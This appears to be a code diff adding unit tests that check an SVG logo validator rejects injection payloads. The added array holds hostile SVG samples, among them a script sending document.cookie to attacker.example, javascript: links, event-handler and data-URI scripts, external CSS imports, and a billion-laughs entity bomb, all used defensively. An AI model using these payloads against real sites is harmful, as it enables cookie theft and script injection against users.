@@ -6,6 +6,8 @@ const { expect } = require('chai');
 const { safeParse } = require('../../scripts/utils/safe-json');
 const { sanitizeForTerminal } = require('../../scripts/utils/safe-json');
 const { validateURL } = require('../../scripts/utils/url-validator');
+const { validateSvg } = require('../../scripts/validators/svg-validator');
+const { createSvg } = require('../helpers/image-fixtures');
 
 describe('Injection Attack Protection', () => {
   describe('Prototype Pollution Protection', () => {
@@ -123,4 +125,37 @@ describe('Injection Attack Protection', () => {
       expect(result.valid).to.be.false;
     });
   });
+
+  describe('SVG Logo Injection Protection', () => {
+    const payloads = [
+      '<script>fetch("https://attacker.example/?c=" + document.cookie)</script>',
+      '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
+      '<image href="x" onerror="alert(1)"/>',
+      '<a xlink:href="javascript:alert(1)"><text>Claim</text></a>',
+      '<a href=" JAVASCRIPT:alert(1)"><text>Claim</text></a>',
+      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x"/></body></foreignObject>',
+      '<iframe src="https://attacker.example"/>',
+      '<image href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/>',
+      '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>',
+      '<style>@import url("https://attacker.example/track.css");</style>',
+      '<rect style="background:url(https://attacker.example/pixel)"/>',
+      '<set attributeName="onmouseover" to="alert(1)"/>',
+    ];
+
+    payloads.forEach(body => {
+      it(`should reject ${body.slice(0, 50)}`, () => {
+        const result = validateSvg(createSvg({ body }));
+        expect(result.valid).to.be.false;
+      });
+    });
+
+    it('should not expand entities (billion laughs)', () => {
+      const entities = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">';
+      const root = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">';
+      const svg = `<!DOCTYPE svg [${entities}]>${root}<text>&b;</text></svg>`;
+
+      const result = validateSvg(svg);
+      expect(result.valid).to.be.false;
+    });
+  });
 });